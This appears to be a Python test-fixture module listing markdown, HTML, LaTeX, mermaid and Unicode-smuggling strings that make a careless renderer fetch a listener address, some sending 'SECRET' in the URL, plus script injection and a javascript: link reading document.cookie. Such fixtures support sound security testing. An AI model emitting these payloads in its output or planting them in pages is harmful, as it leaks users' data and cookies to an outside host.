"""Texts that would make a careless page fetch, link or run something; `{there}` is an address that listens."""

TEXTS = (
    "![p](http://{there}/md?d=SECRET)",
    "![p][r]\n\n[r]: http://{there}/ref?d=SECRET",
    "[^1]\n\n[^1]: ![p](http://{there}/footnote)",
    "[click](http://{there}/link) and http://{there}/bare www.{there}/www",
    "<http://{there}/auto>",
    "[x](javascript:alert(document.cookie)) [y](//{there}/y) [z](data:text/html;base64,PHNjcmlwdD4=)",
    '"><script>fetch("http://{there}/x")</script>',
    '<img src="http://{there}/img" onerror="fetch(\'http://{there}/e\')">',
    '<svg><image href="http://{there}/svg"/></svg><style>@import "http://{there}/css";</style>',
    '<iframe src="http://{there}/frame"></iframe><link rel="stylesheet" href="http://{there}/sheet">',
    "$\\href{{http://{there}/k}}{{x}}$ $\\includegraphics{{http://{there}/g}}$",
    ":red[x] :material/home: :streamlit: :red-background[![p](http://{there}/colour)]",
    "```mermaid\nflowchart LR\n A@{{ img: 'http://{there}/mermaid' }}\n```",
    "| a |\n|---|\n| ![p](http://{there}/cell) |",
    "Waiting.\u202e\u2066hidden\u2069 \U000e0049\U000e0067\u200bx",
)


def aimed_at(there: str) -> list[str]:
    """The texts with the address of a listener in them."""
    return [text.format(there=there) for text in TEXTS]
